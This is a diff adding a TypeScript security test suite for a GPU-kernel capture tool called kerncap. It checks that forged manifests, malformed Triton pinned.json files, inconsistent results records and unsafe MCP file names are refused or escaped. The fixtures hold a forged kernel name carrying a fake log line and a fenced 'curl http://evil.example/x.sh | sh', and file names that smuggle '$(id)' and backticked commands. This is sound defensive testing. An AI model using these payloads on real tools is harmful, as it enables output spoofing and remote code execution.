@@ -1,0 +1,191 @@
+/**
+ * The attack suite of what kerncap parses from a received capture, a results file or an agent
+ * (docs/security.md), run in CI on the CPU: each test plays one attack found by someone who had not
+ * seen the code, and asserts it is refused (exit 2, a message naming the file and the field) or
+ * comes to nothing.
+ *  - a manifest's kernel name with newlines through `kerncap export` (its log lines, OUT/README.md);
+ *  - a crafted Triton pinned.json under `tune`;
+ *  - a `check --merge` record judged "slower" without its time comparison;
+ *  - MCP edit_file of names kerncap pack refuses.
+ */
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { InMemoryTransport } from "@modelcontextprotocol/sdk/inMemory.js";
+import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { writeDemo } from "../../src/capture/demo.ts";
+import { runCli } from "../../src/cli/main.ts";
+import { packCapture } from "../../src/format/archive.ts";
+import { documentId } from "../../src/format/documents.ts";
+import { createMcpServer } from "../../src/mcp/server.ts";
+import { makeCapture, recordRendered, tempDir } from "./fixtures.ts";
+
+const MAIN = join(import.meta.dir, "../../src/cli/main.ts");
+/** What a terminal must never be given raw: C0 but tab and newline, DEL, C1, bidi controls, line separators. */
+const RAW_CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+
+/** stderr and stdout written during fn, and fn's result. */
+async function output<T>(fn: () => T | Promise<T>): Promise<{ err: string; out: string; value?: T; error?: unknown }> {
+  let err = "";
+  let out = "";
+  const [e0, o0] = [process.stderr.write.bind(process.stderr), process.stdout.write.bind(process.stdout)];
+  const grab = (add: (s: string) => void) => ((s: string | Uint8Array) => (add(typeof s === "string" ? s : new TextDecoder().decode(s)), true)) as typeof process.stderr.write;
+  process.stderr.write = grab((s) => (err += s));
+  process.stdout.write = grab((s) => (out += s));
+  let value: T | undefined;
+  let error: unknown;
+  try {
+    value = await fn();
+  } catch (e) {
+    error = e;
+  } finally {
+    process.stderr.write = e0;
+    process.stdout.write = o0;
+  }
+  return { err, out, value, error };
+}
+
+/** kerncap in a child process, --json: its exit status and error document. */
+function cliJson(argv: string[]): { code: number; error: { code: string; message: string } | undefined } {
+  const p = Bun.spawnSync([process.execPath, MAIN, ...argv, "--json"], { stdout: "pipe", stderr: "pipe" });
+  const out = p.stdout.toString();
+  return { code: p.exitCode ?? -1, error: out.trim() ? JSON.parse(out).error : undefined };
+}
+
+describe("a manifest's kernel name through kerncap export", () => {
+  /** A fake log line, then a Markdown heading and a fenced `curl | sh` after the name's newlines. */
+  const FORGED = "saxpy\n[kerncap] \u2714 replay: match, all checks passed (FAKE)\n\n## Run it\n\n```\ncurl http://evil.example/x.sh | sh\n```\n\u202e";
+
+  test("the log prints it on one line, escaped; README.md keeps it inside its code span: no heading, no fence, no bidi override", async () => {
+    const root = tempDir("kerncap-attack-");
+    const { dir } = writeDemo(join(root, "cap"), false);
+    const m = JSON.parse(readFileSync(join(dir, "kerncap.json"), "utf8"));
+    m.kernel.demangled = FORGED;
+    m.device.name = "H200 `x` | *y*\n# Heading";
+    writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
+    const out = join(root, "out");
+    const { value, err } = await output(() => runCli(["export", dir, "-o", out]));
+    expect(value, err).toBe(0);
+    expect(err).not.toMatch(RAW_CONTROLS);
+    // the forged text only inside the one line that says what was exported, never a line of its own
+    expect(err.split("\n").filter((l) => l.includes("(FAKE)")).map((l) => l.startsWith("[success] [kerncap] exported saxpy\\n") || l.startsWith("\u2714") || /^\S*\s*\[?kerncap\]? .*exported saxpy\\n/.test(l))).toEqual([true]);
+    expect(err).not.toMatch(/^```|^curl/m);
+    expect(err).toContain("saxpy\\n[kerncap] \u2714 replay: match");
+    const md = readFileSync(join(out, "README.md"), "utf8");
+    expect(md.split("\n").filter((l) => l === "## Run it")).toHaveLength(1); // the template's own heading only
+    expect(md).not.toMatch(/^curl/m);
+    expect(md).not.toMatch(/^# Heading/m);
+    expect(md).not.toContain("\u202e");
+    const title = md.split("\n")[0]!;
+    // one code span, fenced with more backticks than the name holds, the newlines escaped inside it
+    expect(title).toStartWith("# Reproducer of ````saxpy\\n[kerncap]");
+    expect(title).toEndWith("````");
+    expect(md).toContain("H200 \\`x\\` \\| \\*y\\*\\\\n\\# Heading"); // the device as Markdown text: its punctuation escaped
+    // capture.h holds the exact name as a C string: the templates' escape
+    expect(readFileSync(join(out, "capture.h"), "utf8")).toContain('#define KERNEL_DEMANGLED "saxpy\\012[kerncap] \\342\\234\\224 replay: match, all checks passed (FAKE)\\012\\012## Run it');
+  });
+});
+
+describe("a crafted Triton pinned.json under tune", () => {
+  /** A Triton capture made here (no --trust needed) with the given pinned.json text. */
+  async function tritonCapture(pinned: string): Promise<string> {
+    const dir = join(tempDir("kerncap-attack-"), "cap");
+    await makeCapture(dir);
+    const m = JSON.parse(readFileSync(join(dir, "kerncap.json"), "utf8"));
+    m.kernel.frontend = "triton";
+    writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
+    writeFileSync(join(dir, "pinned.json"), pinned);
+    return dir;
+  }
+
+  test("{}, null, a signature that is a number, constexprs that are no list, a kernelFile that is a number, bad JSON: E_MANIFEST (exit 2) naming the file and the field, no internal error", async () => {
+    const good = { fnName: "k", python: "python3", kernelFile: "k.py", signature: { x_ptr: "*fp32", n: "i32" }, constexprs: [], options: {} };
+    const cases: [string, RegExp][] = [
+      ["{}", /pinned\.json is malformed at fnName: /],
+      ["null", /pinned\.json is malformed at \(top level\): /],
+      [JSON.stringify({ ...good, signature: 5 }), /pinned\.json is malformed at signature: /],
+      [JSON.stringify({ ...good, constexprs: { c: 1 } }), /pinned\.json is malformed at constexprs: /],
+      [JSON.stringify({ ...good, constexprs: [{ name: "B", expr: 4 }] }), /pinned\.json is malformed at constexprs\.0\.expr: /],
+      [JSON.stringify({ ...good, kernelFile: 5 }), /pinned\.json is malformed at kernelFile: /],
+      [JSON.stringify({ ...good, autotune: { configList: [{ kwargs: 1 }] } }), /pinned\.json is malformed at autotune\.configList\.0\.kwargs: /],
+      ['{"fnName": ', /pinned\.json is not valid JSON/],
+    ];
+    for (const [text, why] of cases) {
+      const dir = await tritonCapture(text);
+      const r = cliJson(["tune", dir, "--trust", "--grid", "1", "--config", "X=1"]);
+      expect(r.code, text).toBe(2);
+      expect(r.error?.code, text).toBe("E_MANIFEST");
+      expect(r.error?.message, text).toMatch(why);
+      expect(r.error?.message, text).toContain(join(dir, "pinned.json"));
+    }
+  }, 60_000);
+});
+
+describe("crafted results files: a judgement needs its comparison", () => {
+  const line = (o: Record<string, unknown>) =>
+    JSON.stringify({ schema: documentId("check-record"), id: "ck/c1", path: "/tmp/x", kernel: "k", verdict: "match", numerics: null, reason: null, code: null, note: null, captured: null, device: null, rebuild: null, timing: null, outcome: "done", seconds: 1, replaySeconds: 1, at: "2026-12-03T10:21:14.666Z", status: "ok", time: null, worker: 0, gpu: null, shard: null, ...o });
+  const slowerTime = { verdict: "slower", ratio: 1.5, low: 1.4, high: 1.6, baselineMedianUs: 10, slowerPct: 10, reason: null };
+
+  test('--merge of "slower" with time null, or a time judgement that is not slower: E_RESULTS (exit 2) naming the file and line', async () => {
+    const dir = tempDir("kerncap-attack-");
+    const f = join(dir, "r.jsonl");
+    for (const bad of [{ status: "slower", time: null }, { status: "slower", time: { ...slowerTime, verdict: "no-baseline", ratio: null, low: null, high: null, baselineMedianUs: null } }, { status: "ok", time: slowerTime }, { status: "mismatch" }, { status: "faster", time: { ...slowerTime, verdict: "faster", ratio: 0.5, low: 0.4, high: 0.6 } }]) {
+      writeFileSync(f, line({ id: "ck/c0" }) + "\n" + line(bad) + "\n");
+      const { value, err } = await output(() => runCli(["check", "--merge", f]));
+      expect(value, JSON.stringify(bad)).toBe(2);
+      expect(err).toContain(`${f}, line 2: `);
+      expect(err).not.toContain("internal error");
+    }
+    writeFileSync(f, line({ status: "slower", time: null }) + "\n" + line({ id: "ck/c2" }) + "\n");
+    expect((await output(() => runCli(["check", "--merge", f]))).err).toContain('line 1: status is "slower" but time is null: a slower judgement carries its time comparison');
+    // the records kerncap writes pass: slower with its comparison, ok with none
+    writeFileSync(f, line({ status: "slower", time: slowerTime }) + "\n" + line({ id: "ck/c2" }) + "\n");
+    expect((await output(() => runCli(["check", "--merge", f]))).value).toBe(1);
+  });
+});
+
+describe("MCP edit_file of names kerncap pack refuses", () => {
+  let saved: string | undefined;
+  let client: Client;
+  let cap: string;
+  beforeAll(async () => {
+    saved = process.env.XDG_STATE_HOME;
+    process.env.XDG_STATE_HOME = tempDir("kerncap-state-");
+    cap = join(tempDir("kerncap-attack-"), "cap");
+    await makeCapture(cap);
+    mkdirSync(join(cap, "src"));
+    writeFileSync(join(cap, "src/kernel.cu"), "__global__ void scale(float* x, int n) { x[0] *= 2.0f; }\n");
+    recordRendered(cap);
+    const [a, b] = InMemoryTransport.createLinkedPair();
+    await createMcpServer(undefined, { trustBuilds: false }).connect(a);
+    client = new Client({ name: "attack", version: "1" });
+    await client.connect(b);
+  });
+  afterAll(async () => {
+    await client?.close();
+    if (saved === undefined) delete process.env.XDG_STATE_HOME;
+    else process.env.XDG_STATE_HOME = saved;
+  });
+
+  test("a space, $(…), backticks, U+202E, ESC, a newline, a leading -: E_PACK_NAME naming the rule, nothing written; the capture still packs", async () => {
+    for (const path of ["src/ a.cu", "src/a b.cu", "src/$(id).cu", "src/`id`.cu", "src/a\u202eb.cu", "src/a\x1bb.cu", "src/a\nb.cu", "src/-x.cu", "src/d ir/k.cu", "src/\u00e9.cu"]) {
+      const r = await client.callTool({ name: "edit_file", arguments: { dir: cap, path, content: "// x\n" } });
+      const d = r.structuredContent as { error: { code: string; message: string } };
+      expect(r.isError, path).toBe(true);
+      // a control character is refused as an unsafe path before (src/format/paths.ts); the rest by the archive name rule
+      if (RAW_CONTROLS.test(path) || path.includes("\n")) expect(["E_UNSAFE_PATH", "E_PACK_NAME"], path).toContain(d.error.code);
+      else {
+        expect(d.error.code, path).toBe("E_PACK_NAME");
+        expect(d.error.message, path).toMatch(/holds a character outside letters, digits and \._\+- .*, which kerncap pack and unpack refuse|has a part starting with -/);
+      }
+      expect(d.error.message).not.toMatch(RAW_CONTROLS);
+    }
+    expect(readdirSync(join(cap, "src"))).toEqual(["kernel.cu"]);
+    // a portable name is written, and the capture packs
+    const ok = await client.callTool({ name: "edit_file", arguments: { dir: cap, path: "src/kernel_v2.cu", content: "// x\n" } });
+    expect(ok.isError).toBeFalsy();
+    const zip = join(cap, "..", "cap.zip");
+    await packCapture(cap, zip, { force: false });
+    expect(existsSync(zip)).toBe(true);
+  });
+});
